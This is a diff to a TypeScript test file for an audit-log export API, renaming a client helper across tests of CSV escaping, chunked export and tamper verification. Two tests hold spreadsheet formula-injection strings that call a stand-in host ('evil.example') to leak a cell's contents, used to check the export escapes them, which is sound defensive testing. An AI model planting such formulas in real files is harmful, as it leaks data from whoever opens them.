@@ -3,7 +3,7 @@ import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
 import type { paths } from "../../clients/typescript/index";
 import { linkHash, payloadHash } from "../../src/audit/chain";
-import { auditClient } from "../../src/audit/client";
+import { auditLogOf } from "../../src/audit/client";
 import { csvFields, csvValue } from "../../src/audit/export-csv";
 import {
   EXPORT_COLUMNS,
@@ -41,7 +41,7 @@ const event = (id: string, extra: Partial<AuditEventInput> = {}): AuditEventInpu
 /** Four entries, the second deleted: five rows with the entry_deleted record. */
 async function seeded(): Promise<TestOrg> {
   const o = await testOrg("export");
-  await auditClient(env, o.org).append([
+  await auditLogOf(env.AUDIT_LOG, o.org).append([
     event("e1", { ip_address: "192.168.1.42", user_agent: "EircodexApp/2.1 Android" }),
     event("e2", { changes: { notes: { from: "line one\nline two", to: "" } } }),
     event("e3", { action: "bulk_submission", mentor_id: null, mentor_ids: ["mentor-482", "mentor-510"] }),
@@ -158,7 +158,7 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
   it("escapes a cell a spreadsheet would run as a formula, and the file still verifies", async () => {
     const o = await testOrg("export");
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-    await auditClient(env, o.org).append([
+    await auditLogOf(env.AUDIT_LOG, o.org).append([
       event("f1", {
         user_agent: formula,
         actor_name: "+1 (555) 0100",
@@ -177,7 +177,7 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
 
   it("keeps NULL and the empty string apart in CSV, and a value spanning lines", async () => {
     const o = await testOrg("export");
-    await auditClient(env, o.org).append([
+    await auditLogOf(env.AUDIT_LOG, o.org).append([
       event("multi", { changes: { notes: { from: null, to: "" } }, user_agent: "line\nbreak" }),
     ]);
     const { text } = await download(o.compliance, { format: "csv" });
@@ -191,7 +191,7 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
 
   it("pulls a log larger than one chunk in order", async () => {
     const o = await testOrg("export");
-    const client = auditClient(env, o.org);
+    const client = auditLogOf(env.AUDIT_LOG, o.org);
     const total = EXPORT_CHUNK_ROWS * 2 + 7;
     for (let start = 0; start < total; start += 400) {
       const count = Math.min(400, total - start);
@@ -424,7 +424,7 @@ describe("verifying an export file", () => {
   it("refuses a JSON column rewritten to read otherwise but parse the same (a duplicate key)", async () => {
     const changes = '{"roles":{"from":["mentor"],"to":["admin"]}}';
     const o = await testOrg("export-json");
-    await auditClient(env, o.org).append([
+    await auditLogOf(env.AUDIT_LOG, o.org).append([
       event("j1", { changes: { roles: { from: ["mentor"], to: ["admin"] } } }),
     ]);
     const own = (await download(o.compliance, { format: "ndjson" })).text.split("\n");
@@ -442,7 +442,7 @@ describe("verifying an export file", () => {
   it("refuses a CSV cell whose formula escape was taken off", async () => {
     const o = await testOrg("export-formula");
     const formula = '=HYPERLINK("https://example.invalid/?"&A1,"Open")';
-    await auditClient(env, o.org).append([event("f1", { user_agent: formula })]);
+    await auditLogOf(env.AUDIT_LOG, o.org).append([event("f1", { user_agent: formula })]);
     const text = (await download(o.compliance, { format: "csv" })).text;
     const escaped = `"'=HYPERLINK(""https://example.invalid/?""&A1,""Open"")"`;
     expect(text).toContain(escaped);
